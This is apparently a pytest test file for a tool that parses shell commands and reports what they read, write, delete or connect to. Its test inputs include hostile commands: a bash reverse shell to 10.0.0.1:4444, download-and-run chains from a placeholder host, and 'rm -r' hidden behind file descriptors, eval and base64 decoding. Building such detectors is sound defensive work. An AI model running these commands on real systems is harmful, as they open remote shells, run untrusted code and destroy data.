"""Redirections: what a command reads and writes by them."""

from __future__ import annotations

import pytest


@pytest.mark.parametrize(("command", "expected"), [
    (': > a.txt', [': W:./a.txt']),
    (': 1<> a.txt', [': W:./a.txt']),
    ('echo x >| a.txt', ['echo W:./a.txt']),
    ('echo x &> a.txt', ['echo W:./a.txt']),
    ('echo x &>> a.txt', ['echo W:./a.txt']),
    ('echo x 2>&1 >> a.txt', ['echo W:./a.txt']),
    ('echo x > /dev/null 2>&1', ['echo']),
    ('echo x >&2', ['echo']),
    ('cat < a.txt > b.txt', ['cat R:./a.txt W:./b.txt']),
    ('> a.txt', ['- W:./a.txt']),
    ('>> ~/.bashrc', ['- W:~/.bashrc']),
    ('echo x > "$F"', ['echo W:?$F']),
    ('cat <<< x > b.txt', ['cat W:./b.txt']),
    ('cat 0< a.txt', ['cat R:./a.txt']),
    ('echo x > /dev/tcp/10.0.0.1/80', ['echo H:10.0.0.1']),
    ('cat < /dev/tcp/10.0.0.1/80', ['cat H:10.0.0.1']),
    ('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', ['bash H:10.0.0.1']),
    ('for i in a; do echo; done > out.txt', ['echo', '- W:./out.txt']),
    ('echo "a > b"', ['echo']),
])
def test_redirections(brief, command, expected):
    assert brief(command) == expected


@pytest.mark.parametrize(("command", "last"), [
    ("exec 3<<< 'rm -r ~/x'; source /dev/fd/3", "rm D:~/x <just_written"),
    ("exec 3<<< 'rm -r ~/x'; bash <&3", "rm D:~/x"),
    ("exec {fd}<<< 'rm -r ~/x'; bash /dev/fd/$fd", "rm D:~/x <just_written"),
    ("exec 3<<< 'rm -r ~/x'; read -u 3 c; eval \"$c\"", "rm D:~/x"),
    ("exec 3< <(curl -s https://a.example); bash <&3", "bash ! <download <just_written"),
    ("exec 3> p.sh; curl https://a.example >&3; bash p.sh", "bash R:./p.sh <download <just_written"),
    ("exec {fd}> >(bash); printf '%s' 'rm -r ~/x' >&$fd", "rm D:~/x"),
    ("printf '%s' 'rm -r ~/x' > >(bash)", "rm D:~/x"),
    ("exec {fd}< <(curl -s https://a.example); bash /proc/self/fd/$fd", "bash R:/proc/self/fd/10 <download <just_written"),
    ("exec > p.sh; curl https://a.example; bash p.sh", "bash R:./p.sh <download <just_written"),
    ("echo cm0gLXIgfi94 | base64 -d | bash -c \"$(cat)\"", "rm D:~/x <decoded"),
    ("curl -o x https://a.example; rm x; sh x", "sh R:./x <local_file"),
])
def test_open_descriptors_and_standard_input_are_followed(brief, command, last):
    assert brief(command)[-1] == last


@pytest.mark.parametrize(("command", "last"), [
    ("echo 'rm -r ~/x' > s.sh; echo ls >> s.sh; bash s.sh", ["rm D:~/x <just_written", "ls <just_written"]),
    ("printf 'rm -r ' > s.sh; printf '~/x' >> s.sh; bash s.sh", ["rm D:~/x <just_written"]),
    ("echo 'rm -r ~/x' > s.sh; echo ls | tee -a s.sh; bash s.sh", ["rm D:~/x <just_written", "ls <just_written"]),
    ("echo 'rm -r ~/x' | tee s.sh; bash s.sh", ["rm D:~/x <just_written"]),
    ("echo 'rm -r ~/x' | dd of=s.sh; bash s.sh", ["rm D:~/x <just_written"]),
    ("echo 'rm -r ~/x' > s.sh; echo ls > s.sh; bash s.sh", ["bash R:./s.sh <just_written", "ls <just_written"]),
    ("echo 'rm -r ~/x' >> old.sh; bash old.sh", ["rm D:~/x <just_written"]),
    ("curl -so a https://a.example; echo ls >> a; bash a", ["bash R:./a <download <just_written", "ls <download <just_written"]),
    ("curl -s https://a.example | tee a; echo ls > a; bash a", ["bash R:./a <just_written", "ls <just_written"]),
])
def test_what_is_appended_keeps_what_was_there(brief, command, last):
    assert brief(command)[-len(last) :] == last
